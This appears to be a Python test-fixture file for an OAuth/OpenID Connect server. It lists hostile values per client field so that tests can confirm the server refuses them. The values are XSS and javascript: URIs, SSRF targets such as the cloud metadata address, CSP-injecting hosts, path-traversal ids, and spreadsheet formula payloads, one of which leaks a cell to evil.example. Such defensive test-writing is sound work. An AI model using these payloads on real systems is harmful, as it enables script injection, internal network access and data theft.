"""The hostile values, and the fields of a client they are sent in (one row per field)."""

from collections.abc import Callable
from dataclasses import dataclass, field

from server.models import Client

HOSTILE_URIS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.domain)",
    "javascript://example.com/%0aalert(document.domain)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://user:password@example.com/",
    "http://evil.example.com/",
    'https://example.com/"><script>alert(1)</script>',
    "https://example.com/\u202egnp.exe",
    "https://example.com/\x00",
    "https://example.com/" + "a" * 3000,
]
# Hosts that are neither a name (letters, digits, inner hyphens; dot-separated labels), an IPv4
# address nor a bracketed IPv6 address (`policy_rules.invalid_host`). Where a host is copied into
# a header, `;` ends a CSP directive, `,` starts another policy and `'` quotes a keyword; the rest
# name another host to a browser than the one a person reads (`%2e`, a number, an empty label), or
# one no CSP host-source or public certificate can (`_`). A private-use scheme's authority too.
HOSTILE_HOST_URIS = [
    "https://app.example.com;sandbox/callback",
    "https://app.example.com,evil/callback",
    "https://app.example.com'unsafe-inline'/callback",
    "https://app_internal.example.com/callback",
    "https://app%2eexample.com/callback",
    "https://app..example.com/callback",
    "https://-app.example.com/callback",
    "https://2130706433/callback",
    "https://[::1]evil.example/callback",
    "com.example.app://cb;sandbox/callback",
]
HOSTILE_HTTPS_HOST_URIS = [uri for uri in HOSTILE_HOST_URIS if uri.startswith("https:")]
# A lone surrogate: JSON can carry one ("\\ud800"), UTF-8 cannot, so only the doors that read JSON
# or take Python strings meet it (test_hostile_values.py: SURROGATE_CELLS).
LONE_SURROGATE_URI = "https://example.com/\ud800"
# A webhook subscription's URL (a URL the server POSTs to): every hostile URI, and the addresses
# the SSRF guard refuses (tests/properties/hostile/test_webhook_urls.py: every door refuses them).
HOSTILE_WEBHOOK_URLS = [
    *HOSTILE_URIS,
    "https://127.0.0.1/hook",
    "https://10.0.0.8/hook",
    "https://169.254.169.254/latest/meta-data/",
    "https://[::1]/hook",
    "https://[::ffff:127.0.0.1]/hook",
    "https://[fe80::1]/hook",
    "https://0.0.0.0/hook",
    "https://100.64.0.1/hook",
    "https://[2002:a9fe:a9fe::]/hook",
    "https://[2002:7f00:1::1]/hook",
    "https://[fec0::1]/hook",
    "https://hooks.example.com/in#fragment",
    "",
    *HOSTILE_HTTPS_HOST_URIS,
]
HOSTILE_TEXT = [
    '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Totally\u202eelgooG",
    "bell\x07name",
    "x" * 500,
]
# A client_id that is a path of its own: a link built from it ends elsewhere on the site
# (a browser resolves the dot segments), or at another app's page (its id plus "/edit").
HOSTILE_PATH_IDS = ["../../admin/auth/user", "..", "app/edit"]
# Text that leaves an HTML attribute when its quotes are not escaped (a list cell's title, an
# action checkbox's aria-label, a filter's input value), with markup and without.
HOSTILE_ATTRIBUTE_TEXT = [
    '"><img src=x onerror=alert(1)>',
    'x" autofocus onfocus="alert(1)',
    "x' autofocus onfocus='alert(1)",
]

# Names people are shown (a client's, an API's, a webhook's) that must be refused by the one
# display-name rule (server.policy_rules.validate_display_name): a line break, a tab, a Unicode
# space other than the plain one, a control, a bidi override or isolate, a zero-width character.
HOSTILE_DISPLAY_NAMES = [
    "two\nlines",
    "carriage\rreturn",
    "tab\there",
    "no\u00a0break",
    "em\u2003space",
    "line\u2028separator",
    "bell\x07name",
    "evil\u202eppa",
    "isolate\u2066d",
    "zero\u200bwidth",
]

# The clean settings every door starts from; a cell replaces one of them with a hostile value.
BASE = {
    "client_id": "",  # empty: the server makes one (only services and the import take one)
    "name": "Matrix app",
    "client_uri": "https://app.example.com/",
    "logo_uri": "https://app.example.com/logo.png",
    "policy_uri": "https://app.example.com/privacy",
    "tos_uri": "https://app.example.com/terms",
    "redirect_uris": "https://app.example.com/callback",
    "description": "An app of the matrix.",
    "post_logout_redirect_uris": "https://app.example.com/logged-out",
    "jwks_uri": "https://app.example.com/jwks.json",
    "backchannel_logout_uri": "https://app.example.com/backchannel-logout",
    "sector_identifier_uri": "",  # none: a clean cell fetches nothing
    "frontchannel_logout_uri": "https://app.example.com/frontchannel-logout",
}
# The OpenID Connect metadata that is not a URI: a door passes these on when a cell sets them.
OIDC_SCALARS = (
    "id_token_signed_response_alg",
    "subject_type",
    "default_max_age",
    "require_auth_time",
    "userinfo_signed_response_alg",
    "token_endpoint_auth_signing_alg",
)
# Every one of them is refused by the policy, at every door that takes it.
HOSTILE_OIDC_SCALARS = [
    ("subject_type", "Pairwise"),
    ("subject_type", "none"),
    ("userinfo_signed_response_alg", "none"),
    ("userinfo_signed_response_alg", "HS256"),
    ("userinfo_signed_response_alg", "RS256\u202e"),
    ("token_endpoint_auth_signing_alg", "none"),
    ("token_endpoint_auth_signing_alg", "HS256"),
    ("id_token_signed_response_alg", "none"),
    ("id_token_signed_response_alg", "HS256"),
    ("default_max_age", "-1"),
    ("default_max_age", "1.5"),
    ("default_max_age", "99999999999"),
]
GOOD_OIDC_SCALARS = {
    "subject_type": "pairwise",
    "userinfo_signed_response_alg": "ES256",
    "token_endpoint_auth_signing_alg": "PS256",
    "id_token_signed_response_alg": "ES256",
    "default_max_age": "600",
}


@dataclass(frozen=True)
class Field:
    """A client field its developer controls.

    `read` gives the stored value as an RFC 7591 answer carries it (a list for redirect URIs);
    `json_key` is its RFC 7591 metadata name (None: registration neither takes nor answers it);
    `uri` says the stored value must pass `oracles.uri_is_safe` (`redirect`: as a redirect URI).
    """

    values: list[str]
    read: Callable[[Client], str | list[str]]
    json_key: str | None = None
    uri: bool = False
    redirect: bool = False
    audit_key: str = field(default="")

    def stored_strings(self, client: Client) -> list[str]:
        value = self.read(client)
        return list(value) if isinstance(value, list) else [value]


FIELDS: dict[str, Field] = {
    # Pages link to an app by its id in the address (/developers/apps/<id>/, /account/apps/<id>/revoke/):
    # an id that is a path of its own would make those links lead elsewhere on the site.
    "client_id": Field([*HOSTILE_TEXT, *HOSTILE_PATH_IDS], lambda c: c.client_id, json_key="client_id"),
    "client_uri": Field(
        [*HOSTILE_URIS, *HOSTILE_HOST_URIS], lambda c: c.client_uri, json_key="client_uri", uri=True
    ),
    # The hosts: a third of them here, a third in policy_uri, a third in tos_uri.
    "logo_uri": Field(
        [*HOSTILE_URIS, *HOSTILE_HOST_URIS[::3]], lambda c: c.logo_uri, json_key="logo_uri", uri=True
    ),
    # RFC 7591 §2's privacy policy and terms of service: shown as text on the consent page.
    "policy_uri": Field(
        [*HOSTILE_URIS, *HOSTILE_HOST_URIS[1::3]], lambda c: c.policy_uri, json_key="policy_uri", uri=True
    ),
    "tos_uri": Field(
        [*HOSTILE_URIS, *HOSTILE_HOST_URIS[2::3]], lambda c: c.tos_uri, json_key="tos_uri", uri=True
    ),
    "redirect_uris": Field(
        [*HOSTILE_URIS, *HOSTILE_HOST_URIS],
        lambda c: c.redirect_uri_list,
        json_key="redirect_uris",
        uri=True,
        redirect=True,
        audit_key="redirect_uris",
    ),
    "name": Field(HOSTILE_TEXT, lambda c: c.name, json_key="client_name", audit_key="name"),
    "description": Field(HOSTILE_TEXT, lambda c: c.description),
    # Every hostile URI here is many cells at a few pages each: a third of them do.
    "post_logout_redirect_uris": Field(
        [*HOSTILE_URIS[::3], *HOSTILE_HOST_URIS[::2]],
        lambda c: c.post_logout_redirect_uris.split(),
        json_key="post_logout_redirect_uris",
        uri=True,
        redirect=True,
    ),
    # private_key_jwt's key URL (fetched through server.outbound); another third of the URIs.
    "jwks_uri": Field(
        [*HOSTILE_URIS[1::3], *HOSTILE_HOST_URIS[1::3]], lambda c: c.jwks_uri, json_key="jwks_uri", uri=True
    ),
    # Back-channel logout (POSTed to by the task worker, through server.outbound); the last third.
    "backchannel_logout_uri": Field(
        [*HOSTILE_URIS[2::3], *HOSTILE_HOST_URIS[1::2]],
        lambda c: c.backchannel_logout_uri,
        json_key="backchannel_logout_uri",
        uri=True,
    ),
    # Pairwise subject identifiers' sector document (fetched through server.outbound when the
    # client is written): a third of the URIs, and addresses the SSRF guard refuses.
    "sector_identifier_uri": Field(
        [
            *HOSTILE_URIS[::3],
            *HOSTILE_HOST_URIS[::4],
            "https://127.0.0.1/sector.json",
            "https://169.254.169.254/latest/meta-data/",
        ],
        lambda c: c.sector_identifier_uri,
        json_key="sector_identifier_uri",
        uri=True,
    ),
    # Front-channel logout (framed by the sign-out page): a quarter of the URIs, and a page on
    # another origin than the redirect URIs' (Front-Channel Logout §2 refuses it).
    "frontchannel_logout_uri": Field(
        [*HOSTILE_URIS[::4], "https://evil.example.com/frontchannel-logout"],
        lambda c: c.frontchannel_logout_uri,
        json_key="frontchannel_logout_uri",
        uri=True,
    ),
}
